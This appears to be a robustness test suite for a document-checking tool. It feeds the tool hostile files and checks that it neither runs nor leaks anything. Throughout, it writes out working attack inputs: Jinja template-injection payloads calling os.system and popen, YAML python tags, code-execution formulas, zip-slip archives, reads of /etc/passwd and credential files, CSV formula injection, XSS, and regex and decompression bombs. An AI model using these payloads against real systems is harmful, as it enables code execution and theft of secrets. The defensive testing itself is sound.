    pdf(d / "type3.pdf", base | {5: b"<< /Type /Font /Subtype /Type3 /FontMatrix [0 0 0 0 0 0] /CharProcs << /a 4 0 R >> /Encoding << /Differences [0 /a 99999999999 /b] >> /FirstChar -99999999 /LastChar 999999999 /Widths [1] >>"})
    pdf(d / "crypt.pdf", base | {6: b"<< /Filter /Standard /V 5 /R 6 /Length 99999999 /O (x) /U (y) /P -1 >>"}, b"/Encrypt 6 0 R /ID [(a) (b)]")
    w(d / "empty.pdf", b"%PDF-1.7\n")
    w(d / "noend.pdf", b"%PDF-1.7\n" + b"1 0 obj\n" * 100_000)
    w(d / "strings.pdf", b"%PDF-1.7\n1 0 obj\n" + b"(" * 500_000)


enc("pdf-bombs", {"a.pdf": pdf_bombs}, [LINT, ["checker", "check", "a.pdf", "--no-model"], ["sh", "-c", "for f in [b-z]*.pdf; do checker show $f | tail -n 1; done"]])


def pdf_pages(p):
    n = 20_000
    objs = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count 20000 /Kids [" + b" ".join(b"%d 0 R" % (10 + i) for i in range(n)) + b"] >>", 4: stream(PDF_TEXT), 5: PDF_FONT}
    objs |= {10 + i: PDF_PAGE for i in range(n)}
    pdf(p, objs)
    objs = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: PDF_PAGE, 5: PDF_FONT,
            4: stream(b"BT /F1 1 Tf " + b"".join(b"1 0 0 1 %d %d Tm (x) Tj " % (i % 600, i % 797) for i in range(100_000)) + b"ET")}
    pdf(p.parent / "b.pdf", objs)


enc("pdf-20k-pages-and-100k-chars", {"a.pdf": pdf_pages}, [["checker", "check", "a.pdf", "--no-model"], ["checker", "check", "b.pdf", "--no-model"]])
enc("html-report-of-hostile-office", {"a.docx": lambda p: docx(p, para("<script>alert(1)</script> 2025年8月1日(木) \u202e") + para("</script><img src=x onerror=alert(1)>2025年8月1日(木)"), rels=relation(1, "hyperlink", "javascript:alert(1)", True))}, [["checker", "check", "a.docx", "--no-model", "--format", "html", "-o", ".r.html"], ["sh", "-c", "cat .r.html"]], must_not_contain=["<script>alert(1)", "<img src=x onerror"])

# ================================================================ rule sets

RS = "rules"
VALIDATE = ["checker", "rules", "validate", "x.yaml"]
USE = [*CHECK, "-r", "x.yaml"]
SHOW = ["checker", "rules", "show", "x.yaml"]
TEST = ["checker", "rules", "test", "x.yaml", "--no-model"]


def rules(name, text, commands=(VALIDATE, USE, SHOW), doc=DOC, extra=None, file="x.yaml", **more):
    def build(folder, outside):
        w(folder / "a.md", doc)
        w(folder / file, text(folder, outside) if callable(text) else text)
        if extra:
            extra(folder, outside)

    CASES.append(Case(name, RS, build, [list(c) for c in commands], **more))


def one(kind, more, rid="x.r"):
    return ruleset("x", f"  - id: {rid}\n    kind: {kind}\n    message: m\n" + "".join(f"    {line}\n" for line in more.splitlines()))


EVIL_RE = ["(a+)+$", "(a|a)*b", "(.*)*c", "([a-z]+)*\\d", "(?:a?){60}a{60}", "(x+x+)+y", "(?=(a+))\\1*b", "(a{1,9999}){1,9999}", "(?:(?:(?:a{1,99}){1,99}){1,99}){1,99}", "\\p{L}*+(?R)?x", "(?P<a>(?&a)?)*", "(?<=a{0,9999})b", "(?i)ſ+K", "(?:" * 3000 + ")" * 3000, "[" + "".join(chr(0x4E00 + i) for i in range(5000)) + "]*" * 3, "(?e)(?:aaaaaaaaaaaaaaaaaaaaa){e<=10}", "(?r)(a+)+b", "(?V1)[a--[b--[c]]]+"]
FODDER = "# x\n\n" + "a" * 5000 + "!\n\n" + "x" * 3000 + "\n\n" + "aaaa " * 2000 + "\n"


def re_rules(field_, kind="existence"):
    return "ruleset: x\ntitle: x\nlanguage: ja\nrules:\n" + "".join(f"  - id: x.r{i}\n    kind: {kind}\n    message: m\n    {field_.replace('@', json.dumps(r))}\n" for i, r in enumerate(EVIL_RE))


rules("rules-regex-bombs", re_rules("patterns: [@]"), [VALIDATE, USE, TEST], FODDER)
rules("rules-regex-bombs-one-rule", "ruleset: x\ntitle: x\nlanguage: ja\nrules:\n" + "".join(f"  - id: x.r{i}\n    kind: existence\n    message: m\n    patterns: ['(a+)+$', '(a|aa)+$', '(a|a?)+$']\n" for i in range(200)), [USE, [*LINT, "-r", "x.yaml"]], FODDER,
      note="200 rules that each run into their time limit: the limits add up", extra=lambda f, o: [w(f / f"d{i}.md", FODDER) for i in range(20)])
rules("rules-regex-in-scope-ignore", re_rules("scope: {ignore: [@]}\n    patterns: [x]"), [VALIDATE, USE], FODDER)
rules("rules-regex-exceptions", re_rules("words: [a]\n    exceptions: [@]"), [VALIDATE, USE], FODDER)
rules("rules-regex-substitution", re_rules("patterns: true\n    swap: [{from: @, to: '\\1\\2\\g<0>\\g<99>{0.__class__}'}]", "substitution"), [VALIDATE, USE, ["checker", "fix", "a.md", "-r", "x.yaml", "--grade", "unsafe", "--in-place"]], FODDER)
rules("rules-regex-conditional", re_rules("first: '(a)'\n    second: @", "conditional"), [VALIDATE, USE], FODDER)
rules("rules-regex-judge-unless", JUDGE.replace("judging", "x").replace("    ask:", "    unless_matches: '(a+)+$'\n    ask:"), [VALIDATE, USE], "# 稟議\n\n## 費用\n\n" + "a" * 5000 + "!\n")
rules("rules-substitution-blowup", one("substitution", "patterns: true\nswap: {'a': '" + "aa" * 5000 + "', '(b*)': 'x\\1', '': 'y', '(?=x)': 'z'}"), [VALIDATE, ["checker", "fix", "a.md", "-r", "x.yaml", "--grade", "unsafe", "--in-place"], USE], FODDER)
rules("rules-extends-loop", ruleset("x", "  - {id: x.r, kind: existence, words: [a], message: m}\n", "extends: [y, x]\n"), extra=lambda f, o: w(f / "y.yaml", ruleset("y", "  - {id: y.r, kind: existence, words: [a], message: m}\n", "extends: [x, ./x.yaml, y]\n")))
rules("rules-extends-chain-1050", ruleset("x", "  []\n", "extends: [r0]\n"), [VALIDATE, USE], extra=lambda f, o: [w(f / f"r{i}.yaml", ruleset(f"r{i}", f"  - {{id: r{i}.r, kind: existence, words: [a], message: m}}\n", f"extends: [r{i + 1}]\n" if i < 1049 else "")) for i in range(1050)] and w(f / CONF, 'rules = ["."]\n'))
rules("rules-extends-diamonds", ruleset("x", "  []\n", "extends: [a0, b0]\n"), [VALIDATE, USE], note="2^40 paths where bases are not remembered",
      extra=lambda f, o: [w(f / CONF, 'rules = ["."]\n')] + [w(f / f"{c}{i}.yaml", ruleset(f"{c}{i}", f"  - {{id: {c}{i}.r, kind: existence, words: [a], message: m}}\n", f"extends: [a{i + 1}, b{i + 1}]\n" if i < 39 else "")) for i in range(40) for c in "ab"])
rules("rules-extends-outside", lambda f, o: ruleset("x", "  []\n", f"extends: [{o}/secret.env, ../outside/secret, /etc/passwd, http://127.0.0.1:9/x.yaml, /dev/zero, '\\0', ''] \n"))
rules("rules-file-outside", lambda f, o: ruleset("x", f"  - {{id: x.r, kind: existence, message: '{{match}}', words: [{{file: {o}/secret.env}}, {{file: {rel(f, o)}/secret.env}}]}}\n  - {{id: x.s, kind: substitution, message: m, swap: {{file: {o}/secret.env}}}}\n"), [VALIDATE, SHOW, USE], doc=f"# x\n\nAPI_KEY={SECRET[:5]}\n")
rules("rules-file-outside-by-link", ruleset("x", "  - {id: x.r, kind: existence, message: m, words: [{file: words/secret.txt}, {file: w2.csv}]}\n"), [VALIDATE, SHOW, USE], extra=lambda f, o: [w(o / "secret.txt", SECRET + "\n"), link(f / "words", o), link(f / "w2.csv", o / "secret.env")])
rules("rules-file-devices", ruleset("x", "  - {id: x.a, kind: existence, message: m, words: {file: /dev/zero}}\n  - {id: x.b, kind: existence, message: m, words: {file: fifo.txt}}\n  - {id: x.c, kind: existence, message: m, words: {file: /proc/self/environ}}\n  - {id: x.d, kind: existence, message: m, words: {file: sparse.txt}}\n  - {id: x.e, kind: existence, message: m, words: {file: .}}\n"),
      env={"A_TOKEN": SECRET}, extra=lambda f, o: [os.mkfifo(f / "fifo.txt"), sparse(f / "sparse.txt", 20 << 30)])
rules("rules-file-lists-huge", ruleset("x", "  - {id: x.a, kind: existence, message: m, words: {file: w.txt}}\n  - {id: x.b, kind: substitution, message: m, swap: {file: s.csv}}\n  - {id: x.c, kind: existence, message: m, words: {file: y.yaml}}\n"), [VALIDATE, USE],
      extra=lambda f, o: [big(f / "w.txt", b"abcdefgh\n", 1_000_000), w(f / "s.csv", "\"" + "a," * 500_000 + "\n" + "".join(f"w{i},v{i}\n" for i in range(100_000))), w(f / "y.yaml", yaml_bomb())])
rules("rules-yaml-anchors-bomb", lambda f, o: ruleset("x", "  - {id: x.r, kind: existence, words: *a11, message: m}\n", yaml_bomb().split("ignore")[0]))
rules("rules-yaml-recursive", "ruleset: x\ntitle: x\nlanguage: ja\nrules: &r\n  - id: x.r\n    kind: existence\n    words: [a]\n    message: m\n    scope: &s {or: [*s, {and: [*s]}], not: *s}\n    when: &w {not: [*w]}\n    examples: *r\n")
rules("rules-yaml-tags", lambda f, o: f"ruleset: x\ntitle: !!python/object/apply:os.system ['{run_it(o, 'tag').replace(chr(39), '')}']\nlanguage: !!python/name:os.system\nparams: !!python/object/new:subprocess.Popen [[sh, -c, x]]\nrules: !!python/object/apply:builtins.eval ['1']\nx: !!binary {'A' * 1000}\ny: !<tag:yaml.org,2002:python/module:os> ''\nz: !include ../outside/secret.env\n")
rules("rules-yaml-merge-keys", "ruleset: x\ntitle: x\nlanguage: ja\n" + "".join(f"m{i}: &m{i} {{" + (f"<<: [*m{i - 1}, *m{i - 1}, *m{i - 1}]" if i else "k0: v") + f", k{i}: v}}\n" for i in range(14)) + "rules:\n  - {<<: *m13, id: x.r, kind: existence, words: [a], message: m}\n")
rules("rules-yaml-numbers", one("length", "scope: {heading_level: 99999999999999999999}\nmax: " + "9" * 100_000 + "\nmin: -.inf\nlimit: 0x" + "f" * 10_000) + "version: 1e999999\nx: 190:20:30:" + "59:" * 5000 + "1\ny: .nan\nz: 0b" + "1" * 50_000 + "\n", [VALIDATE, USE, ["checker", "rules", "validate", "y.yaml"]], extra=lambda f, o: w(f / "y.yaml", "ruleset: y\ntitle: 2001-99-99 99:99:99\nversion: 9999-12-31T23:59:59.999999999999+99:99\nrules: []\n"))
rules("rules-yaml-deep", "ruleset: x\nrules: " + "[" * 50_000 + "\n", extra=lambda f, o: w(f / "y.yaml", "ruleset: y\nrules:\n  - scope: " + "{or: [" * 5000 + "]}" * 5000), commands=[VALIDATE, USE, ["checker", "rules", "validate", "y.yaml"]])
rules("rules-yaml-deep-blocks", "ruleset: x\nrules:\n" + "".join("  " * i + "- a:\n" for i in range(1, 1500)), extra=lambda f, o: [w(f / "y.yaml", "? " * 20_000), w(f / "z.yaml", "- " * 20_000)], commands=[VALIDATE, ["checker", "rules", "validate", "y.yaml"], ["checker", "rules", "validate", "z.yaml"]])
rules("rules-yaml-duplicate-keys", "ruleset: x\nruleset: y\ntitle: x\nlanguage: ja\nrules:\n  - {id: x.r, kind: existence, words: [a], message: m, enabled: true, enabled: false}\n  - {id: x.r, kind: existence, words: [b], message: m}\nrules: []\n? null\n: d\n1: e\ntrue: f\n", [VALIDATE, USE, ["checker", "rules", "validate", "y.yaml"]], extra=lambda f, o: w(f / "y.yaml", "ruleset: y\n? [a, b]\n: c\n? {a: b}\n: c\n? &k {*k : *k}\n: d\n"))
rules("rules-yaml-odd-bytes", b"\xff\xfer\0u\0l\0e\0s\0e\0t\0:\0 \0x\0", extra=lambda f, o: [w(f / "y.yaml", "ruleset: y\ntitle: \"\\x1b]0;pwn\\x07\\e[31m\"\n\x1b[31mrules: x\n"), w(f / "z.yaml", "%YAML 9.9\n%TAG ! tag:evil,2000:\n--- !x\nruleset: z\n...\n---\nruleset: z2\n")], commands=[VALIDATE, ["checker", "rules", "validate", "y.yaml"], ["checker", "rules", "validate", "z.yaml"]])
rules("rules-escapes-in-messages", ruleset("x", '  - id: "x.\\e[31mr"\n    kind: existence\n    words: [適宜]\n    message: "\\e]0;pwned\\a\\e[2J{match}\\r\\n::error::pwn"\n    why: "\\e[?1049h"\n  - id: x.s\n    kind: existence\n    words: ["適宜", {word: "更新", reason: "\\e[31m"}]\n    message: "\\e]8;;http://evil\\a{match}\\e]8;;\\a\\x9b31m"\n'), [VALIDATE, USE, [*USE, "--format", "github"]])
rules("rules-message-format", ruleset("x", "".join(f"  - {{id: x.r{i}, kind: existence, words: [適宜], message: {json.dumps(m)}}}\n" for i, m in enumerate(["{match.__class__.__mro__}", "{0}", "{}", "{match!r:>999999999}", "{match:{match}}", "%s%n%(x)s", "${match}", "$$", "{{match", "{match[0]}", "{self}", "{question}", "{match:>99999999}"]))))
rules("rules-params-recursive", "ruleset: x\ntitle: ${a}\nlanguage: ja\nparams:\n  a: ${b}\n  b: ${a}\n  c0: xxxxxxxxxx\n" + "".join(f"  c{i}: '" + f"${{c{i - 1}}}" * 10 + "'\n" for i in range(1, 12)) + "rules:\n  - {id: x.r, kind: existence, words: ['${a}', '${c11}', '${PATH}', '${__class__}', '${a.b}', '$${x}', '${'], message: '${c11}'}\n")
rules("rules-params-bomb-only", "ruleset: x\ntitle: x\nlanguage: ja\nparams:\n  c0: xxxxxxxxxx\n" + "".join(f"  c{i}: '" + f"${{c{i - 1}}}" * 10 + "'\n" for i in range(1, 12)) + "rules:\n  - {id: x.r, kind: existence, words: ['${c11}'], message: m}\n")
rules("rules-metric-formula", ruleset("x", "".join(f"  - {{id: x.r{i}, kind: metric, message: m, formula: {json.dumps(f)}, condition: {json.dumps(c)}}}\n" for i, (f, c) in enumerate([("__import__('os').system('touch ran')", "> 1"), ("9**9**9**9**9", "> 1"), ("words", "> 1 or __import__('os').system('touch ran')"), ("(" * 5000 + "1" + ")" * 5000, "> 1"), ("exp(exp(exp(99)))", "> 1"), ("words / 0", "> 1"), ("max.__class__", "> 1"), ("[x for x in ().__class__.__base__.__subclasses__()]", "> 1"), ("-" * 20_000 + "1", "> 1"), ("round(1e308*10)", "> 1"), ("sqrt(-1) + log(0)", "> nan"), ("words << 99999999999", "> 1"), ("9" * 10_000, "> " + "9" * 10_000), ("1" + "+1" * 20_000, "> 1"), ("lambda: 1", "> 1"), ("'a' * 9999999999", "> 1"), ("floor(1e400)", "== 1")]))))
rules("rules-hunspell-bomb", ruleset("x", "  - id: x.r\n    kind: spelling\n    message: m\n    suggestions: 999999999\n    dictionaries: [{dic: {file: d.dic}, aff: {file: d.aff}}]\n"), [VALIDATE, USE], doc="# x\n\nWe recieve teh raport on " + "abcdefghij" * 500 + "\n",
      extra=lambda f, o: [w(f / "d.dic", "99999999999\n" + "".join(f"word{i}/ABCDEFGH\n" for i in range(3000))), w(f / "d.aff", "SET ../../x\nFLAG num\n" + "".join(f"SFX {c} Y 200\n" + "".join(f"SFX {c} 0 s{j}/{'ABCDEFGH'} (a+)+$\n" for j in range(200)) for c in "ABCDEFGH") + "REP 99999999\nCOMPOUNDRULE 3\nCOMPOUNDRULE (a*)*\nAF 1\nMAP 1\nMAP abc\nTRY " + "abc" * 9999 + "\n")])
rules("rules-sequence-bomb", ruleset("x", "  - id: x.r\n    kind: sequence\n    message: m\n    tokens: [" + ", ".join(["{pattern: '(a+)+', skip: 99999999}"] * 200) + "]\n  - id: x.s\n    kind: sequence\n    message: m\n    tokens: [" + ", ".join(["{surface: a, skip: 50}"] * 12 + ["{surface: b}"]) + "]\n"), [VALIDATE, USE], doc="# x\n\n" + "a " * 3000 + "\n")
rules("rules-globs", ruleset("x", "  - {id: x.r, kind: link, message: m, files: ['" + "**/" * 300 + "*a*a*a*a*a*a*b', '" + "*" * 5000 + "z'], hosts: ['" + "*a" * 2000 + "b']}\n  - {id: x.s, kind: existence, words: [a], message: m, scope: {section: '" + "*a" * 300 + "b', style: ['" + "[!" * 2000 + "']}, when: {filename: '" + "*a" * 300 + "b', has_section: '" + "*" * 3000 + "x', property: {'*': '" + "*a" * 300 + "b'}}}\n",
                            "applies_to: {filename: ['" + "*a" * 300 + "b', '../../*', '/**', '[']" + ", title: ['" + "*a*" * 300 + "b']}\n"), [VALIDATE, [*LINT, "-r", "x.yaml"], LINT], doc="# " + "a" * 3000 + "\n\n[x](" + "a/" * 2000 + "a) [y](http://" + "a" * 3000 + "/)\n\naaa\n", extra=lambda f, o: w(f / CONF, 'rules = ["."]\n'))
rules("rules-100k-rules", lambda f, o: "ruleset: x\ntitle: x\nlanguage: ja\nrules:\n" + "".join(f"- {{id: x.r{i}, kind: existence, words: [w{i}], message: m}}\n" for i in range(30_000)), [VALIDATE, USE])
rules("rules-override-and-ids", ruleset("x", "  - {id: ../../../outside/x, kind: existence, words: [a], message: m}\n  - {id: __class__, kind: ../../os, words: [a], message: m}\n  - {id: x.k, kind: __init__, message: m}\n  - {id: " + "x" * 100_000 + ", kind: " + "y" * 100_000 + ", message: m}\n", "extends: [ja-business]\noverride: {ja-business.date: {kind: existence, __class__: x, enabled: [[[]]]}, '*': {enabled: false}, checker.injection: {enabled: {}}}\n"))
def heavy(name, bad, good):
    many = lambda t, n: ", ".join([f'"{t}"'] * n)
    return ruleset(name, f"  - id: {name}.r\n    kind: existence\n    words: [a]\n    message: m\n    examples:\n      {bad}: [{many('a ' * 300, 2000)}]\n      {good}: [{many('b', 5000)}]\n")


rules("rules-examples-heavy", heavy("x", "bad", "good"), [VALIDATE, TEST, ["checker", "rules", "test", "y.yaml", "--no-model"]], extra=lambda f, o: w(f / "y.yaml", heavy("y", "fail", "pass")),
      note="the names of the lists of examples are guessed")
rules("rules-explain-and-names", one("existence", "words: [適宜]"), [["checker", "rules", "explain", "a.md", "x.r\x1b[31m", "-r", "x.yaml"], ["checker", "rules", "explain", "a.md", "../../x", "-r", "../outside/secret.env"], ["checker", "rules", "show", "\x1b[2J../../outside/secret"]])


def imports(name, make, source, **more):
    def build(folder, outside):
        make(folder, outside)
    CASES.append(Case(name, RS, build, [["checker", "rules", "import", source], ["checker", "rules", "import", source, "-o", "out.yaml", "-q"], ["sh", "-c", "test ! -e out.yaml || checker rules validate out.yaml"]], **more))


imports("rules-import-vale-evil", lambda f, o: [
    w(f / ".vale.ini", "StylesPath = ../outside\nMinAlertLevel = suggestion\nPackages = http://127.0.0.1:@PORT@/evil.zip, ../../x.zip, Google\nVocab = ../../outside/secret.env\nTransform = /x.xslt\n[*.{md,txt}]\nBasedOnStyles = Vale, evil, ../../etc\nTokenIgnores = ((a+)+$)\nBlockIgnores = (.*)*\n[formats]\nmdx = md\n" + "[*" * 5000 + "]\n"),
    w(f / "styles/evil/r.yml", "extends: script\nscript: |\n  os := import(\"os\")\n  os.exec(\"touch\", \"ran\")\nmessage: \"%s\\e[31m\"\n"), w(f / "styles/evil/s.yml", "extends: spelling\ndictionaries: [../../../etc/passwd]\ndicpath: /\nfilters: ['(a+)+$']\n")], ".vale.ini", endpoint="record", endpoint_forbidden=True)
imports("rules-import-vale-styles", lambda f, o: [[w(f / "styles/evil" / f"{k}.yml", f"extends: {k}\nmessage: \"x %s %s %d {{}} ${{a}}\"\nlevel: error\nswap:\n  '(?<!a{{1,}}b)(a+)+': b\n  ? [a]\n  : b\ntokens: ['(a+)+$', '(?P<x>', 'x\\\\', &a [*a], !!python/name:os.system ]\nraw: ['(a|a)*', 'b']\nformula: __import__('os').system('touch ran')\ncondition: '> 1'\nmatch: (a+)+\nfirst: (a+)+\nsecond: (b+)+\nscope: [raw, '~x', 'a & b']\nnonword: true\nexceptions: ['(a+)+']\naction: {{name: replace, params: [x]}}\n") for k in ("existence", "substitution", "occurrence", "repetition", "consistency", "conditional", "capitalization", "metric", "sequence", "spelling", "script", "../../x")],
                                                    link(f / "styles/out", o), link(f / "styles/loop", "."), w(f / "styles/evil/bomb.yml", yaml_bomb())], "styles")


def vale_zip(folder, outside):
    data, crc, size = bomb(900, b"extends: existence\ntokens:\n", b"  - aaaaaaaaaa\n", b"")
    raw_zip(folder / "s.zip", [{"name": "styles/evil/r.yml", "data": data, "method": 8, "crc": crc, "usize": size}, {"name": "../outside/victim.txt", "data": b"PWN"}, {"name": "../../outside/new.yml", "data": b"extends: existence\ntokens: [a]\nmessage: m\n"}, {"name": "/tmp/pwned-by-style.yml", "data": b"extends: existence\ntokens: [a]\nmessage: m\n"}, {"name": "styles/l.yml", "data": os.fsencode(outside / "secret.env"), "attr": 0o120777 << 16, "made": 3 << 8}] + [{"name": f"styles/n/{i}.yml", "data": b"extends: existence\ntokens: [a]\nmessage: m\n"} for i in range(5000)])


imports("rules-import-vale-zip", vale_zip, "s.zip")
imports("rules-import-prh", lambda f, o: w(f / "prh.yml", f"version: 1\nimports:\n  - prh.yml\n  - ../outside/secret.env\n  - path: {o}/secret.env\n    disableImports: false\n  - http://127.0.0.1:@PORT@/x.yml\n  - /dev/zero\nrules:\n  - expected: a$1$99\n    pattern: /(a+)+$/gmx\n    specs: [{{from: b, to: c}}]\n  - expected: &x [*x]\n  - pattern: ['/(?<x>/', '/a/evil', '//', '/']\n    expected: '\\e[31m'\n    prh: '\\e[31m'\n"), "prh.yml", endpoint="record", endpoint_forbidden=True)
imports("rules-import-textlint", lambda f, o: [w(f / ".textlintrc.json", json.dumps({"plugins": ["../../evil"], "rules": {"preset-ja-technical-writing": {"a": True}, "prh": {"rulePaths": ["../outside/secret.env", "/dev/zero", "~/.bashrc", "loop.yml"]}, "../evil": {}, "terminology": {"terms": str(o / "secret.env")}}, "filters": {"allowlist": {"allowlistConfigPaths": ["../outside/secret.env"], "allow": ["/(a+)+$/", "/[/", "\u001b[31m"]}}})),
                                               w(f / "loop.yml", "imports: [loop.yml]\nrules: []\n"), w(f / ".textlintrc.js", f"require('child_process').execSync({run_it(o, 'textlint')!r})")], ".textlintrc.json")
imports("rules-import-textlint-js", lambda f, o: [w(f / ".textlintrc.js", f"require('child_process').execSync({run_it(o, 'textlint')!r})\n"), w(f / "package.json", json.dumps({"scripts": {"preinstall": "touch ran"}, "textlint": {"rules": {}}}))], ".textlintrc.js")
imports("rules-import-csv", lambda f, o: w(f / "t.csv", "使わない語,使う語,理由\n=cmd|'/C calc'!A0,x,\x1b[31m\n" + '"' + "a" * 300_000 + '",b\n' + "(a+)+$,b\n,\n,,,,,,,\n\0,\0\na,a\na,b\nb,a\n" + '"unclosed\n' + "x,y\n" * 50_000), "t.csv")
imports("rules-import-json-deep", lambda f, o: w(f / ".textlintrc", "[" * 300_000 + "\n// x\n" + "/*" * 10_000), ".textlintrc")


@case("rules-learn-hostile-samples", RS, [["checker", "rules", "learn", "a.docx", "b.docx", "c.docx", "-o", "x.yaml"], ["sh", "-c", "test ! -e x.yaml || checker rules validate x.yaml"], ["sh", "-c", "test ! -e x.yaml || checker rules show x.yaml"]])
def _(folder, outside):
    heads = ["!!python/object/apply:os.system [x]", "a: *b &c", "${x} {file: ../outside/secret.env}", "---", "'\"\\", "(a+)+$", "# x", "[" * 500, "件名: x\u2028rules:", "{{ 7*7 }}"]
    st = f'{XML}<w:styles xmlns:w="{W}"><w:style w:type="paragraph" w:styleId="h1"><w:name w:val="heading 1"/></w:style></w:styles>'
    for n in "abc":
        docx(folder / f"{n}.docx", "".join(para(h, '<w:pPr><w:pStyle w:val="h1"/></w:pPr>') + para("本文 " + n) for h in heads), rels=relation(1, "styles", "styles.xml"), types=override("/word/styles.xml", WORD + "styles+xml"), extra={"word/styles.xml": st})


@case("rules-learn-output-link", RS, [["checker", "rules", "learn", "a.docx", "b.docx", "c.docx", "-o", "x.yaml"], ["checker", "rules", "learn", "a.docx", "b.docx", "c.docx", "-o", "y.yaml", "--force"], ["checker", "rules", "import", "t.csv", "-o", "y.yaml", "--force"]])
def _(folder, outside):
    for n in "abc":
        docx(folder / f"{n}.docx", para("議事録") + para("日時: 2025年8月1日"))
    w(folder / "t.csv", "a,b\n")
    link(folder / "x.yaml", outside / "new-rules.yaml")
    link(folder / "y.yaml", outside / "victim.txt")


# ================================================================ templates

T = "templates"

SSTI = [
    "{{ cycler.__init__.__globals__.os.system(\"@RUN@\") }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ self._TemplateReference__context }}", "{{ lipsum.__globals__['os'].popen('@RUN@').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').system('@RUN@') }}{% endif %}{% endfor %}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}", "{{ '{0.__class__}'.format(cycler) }}", "{{ (cycler|attr('__init__')).__globals__ }}", "{% include '@OUT@/secret.env' %}", "{% import '../outside/secret.env' as s %}",
    "{% extends '/etc/passwd' %}", "{{ range(99999999999)|list }}", "{{ 'x' * 9999999999 }}", "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}x{% endfor %}{% endfor %}{% endfor %}", "{{ 9 ** 9 ** 9 }}",
    "{{ 'a'|center(9999999999) }}", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "{{ [].__class__.__base__ }}", "{% set x = namespace() %}{% set x.__class__ = 1 %}", "{{ ('%s'|format)('x').__class__ }}", "{{ 'x'|replace('x', 'x' * 99999)|replace('x', 'x' * 99999) }}", "{{ " + "(" * 2000 + "1" + ")" * 2000 + " }}",
    "{{ joiner.__init__.__globals__ }}", "{{ namespace.__init__.__globals__ }}", "{{ dict.fromkeys(range(999999999)) }}", "{% debug %}{% do 1 %}{{ [1].append(2) }}", "{{ x.y.z.__getattr__ }}", "{{ '%999999999s'|format('x') }}", "{{ '{:>9999999999}'.format('x') }}", "{{ (('x',) * 99999999)|join }}", "{{ 'a' ~ 'b' * 2147483647 }}",
]


def ssti(outside, i):
    return SSTI[i].replace("@RUN@", f"echo ssti >> {outside}/ran.log").replace("@OUT@", str(outside))


MUTATE = r'''
import json, pathlib, re, sys, zipfile
# Puts a hostile text into the learned template of the folder: the first tags of every Word or Markdown file in it.
payload = pathlib.Path("payload.txt").read_text().rstrip("\n")
where = sys.argv[1]
for p in sorted(pathlib.Path(where).rglob("*")):
    if p.suffix == ".docx":
        with zipfile.ZipFile(p) as z:
            parts = {n: z.read(n) for n in z.namelist()}
        t = parts["word/document.xml"].decode()
        x = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        new, n = re.subn(r"\{\{.*?\}\}", lambda m: x, t, count=1)
        if not n:
            new = re.sub(r"(<w:t[^>]*>)", lambda m: m[1] + x, t, count=1)
        parts["word/document.xml"] = new.encode()
        with zipfile.ZipFile(p, "w") as z:
            for k, v in parts.items():
                z.writestr(k, v)
    elif p.suffix in (".md", ".jinja", ".j2"):
        p.write_text(payload + "\n" + p.read_text())
'''

SAMPLE = lambda n: para("議事録") + para(f"件名: 定例会議{n}") + para(f"日時: 2025年8月{n}日") + para(f"出席者: 山田{n}") + para("決定事項") + para(f"次回は{n}日に行う。")


def samples(folder, more=lambda n: ""):
    for n in (1, 2, 3):
        docx(folder / f"s{n}.docx", SAMPLE(n) + more(n))


LEARN = ["checker", "templates", "learn", "s1.docx", "s2.docx", "s3.docx", "-o", "tpl", "--data"]
MUT = ["python3", "mutate.py", "tpl"]


def template_case(name, which, last=(["checker", "templates", "validate", "./tpl"],), **more):
    """Learn a good template of three samples, put one payload in, validate it or write with it."""

    def build(folder, outside):
        samples(folder)
        w(folder / "mutate.py", MUTATE)
        w(folder / "payload.txt", ssti(outside, which) if isinstance(which, int) else which(outside))

    CASES.append(Case(name, T, build, [["sh", "-c", "checker templates learn s1.docx s2.docx s3.docx -o tpl --data && python3 mutate.py tpl"], *[list(c) for c in last]], **more))


NEW_TPL = ["checker", "new", "./tpl", "--data", "tpl/data-1.yaml", "--no-model", "-o", "out.docx"]
VAL_TPL = ["checker", "templates", "validate", "./tpl"]
for _n, _i in (("cycler", 0), ("subclasses", 4), ("lipsum-popen", 3), ("format", 6), ("attr-filter", 7), ("include", 8), ("big-range", 11), ("big-string", 12), ("endless-loops", 13), ("power", 14), ("center", 15), ("macro-recursion", 16), ("parentheses", 21), ("replace-growth", 20), ("percent-width", 27), ("format-width", 28), ("tuple-times", 29)):
    template_case(f"template-word-{_n}", _i, [VAL_TPL, NEW_TPL])
template_case("template-word-all-at-once", lambda o: "".join(ssti(o, i) for i in range(len(SSTI)) if i not in (10, 13, 16, 21)), [VAL_TPL, NEW_TPL])


@case("template-learned-from-samples-with-tags", T, [LEARN, VAL_TPL, NEW_TPL], must_not_contain=["<class '"], note="tags in filled documents are text: the learned template must not run them")
def _(folder, outside):
    samples(folder, lambda n: para("".join(ssti(outside, i) for i in (0, 1, 3, 6, 8))) + para(f"値{n}: {ssti(outside, 0)}") + para("{{ 7 * 7 }} {% raw %} {# x #} {%p if x %} {%tr for a in b %} {{r x }}") + para("{% endif %} {%"))


@case("template-markdown-guessed-layouts", T, [["checker", "templates", "validate", "./tpl", "./tpl2"], ["checker", "new", "./tpl", "--no-model", "-o", "o.md"], ["checker", "templates", "show", "./tpl", "--data"]], note="the layout of Markdown templates is not in the documents I was given: several are tried")
def _(folder, outside):
    body = "# {{ title }}\n\n" + "\n\n".join(ssti(outside, i) for i in (0, 3, 6, 8))
    for d in ("tpl", "tpl2"):
        for n in ("template.md", "template.ja.md", "template.md.jinja", "tpl.md", "document.md", "ja.md"):
            w(folder / d / n, body)
        for n in ("template.yaml", "tpl.yaml", "fields.yaml", "template.yml", "schema.yaml"):
            w(folder / d / n, f"template: tpl\nid: tpl\nname: tpl\ntitle: tpl\nlanguage: ja\nruleset: ../../outside/secret.env\nformats: [md]\nfields:\n  - {{id: title, name: title, label: title, type: text, required: false, example: \"{{{{ cycler.__init__.__globals__ }}}}\", pattern: '(a+)+$'}}\n")


